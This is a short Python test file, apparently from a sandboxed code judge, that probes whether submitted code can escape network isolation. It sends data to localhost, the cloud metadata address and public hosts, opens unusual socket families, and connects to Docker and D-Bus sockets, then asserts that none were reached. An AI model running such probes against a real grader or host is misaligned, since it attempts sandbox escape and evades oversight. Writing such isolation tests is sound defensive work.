# Sends its findings home: to the judge's own machine, to the internet, by name, by hypervisor, by socket name.
# held by: network
import os
import socket

reached = []
addresses = [
    ("127.0.0.1", PORT),
    ("169.254.169.254", 80),
    ("1.1.1.1", 53),
    ("localhost", PORT),
    ("example.org", 80),
]
for address in addresses:
    try:
        socket.create_connection(address, 0.3).sendall(b"found")
        reached.append(address)
    except OSError:
        pass
for family in range(64):
    if family not in (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            try:
                socket.socket(family, kind)
                reached.append((family, kind))
            except OSError:
                pass
for name in ("/run/dbus/system_bus_socket", "/var/run/docker.sock", "\0/tmp/dbus-x", f"{OUTSIDE}/line"):
    try:
        socket.socket(socket.AF_UNIX).connect(name)
        reached.append(name)
    except OSError:
        pass


def show_them(*_, **__):
    raise RuntimeError(f"reached {reached}")


answer_with(show_them)
assert not reached
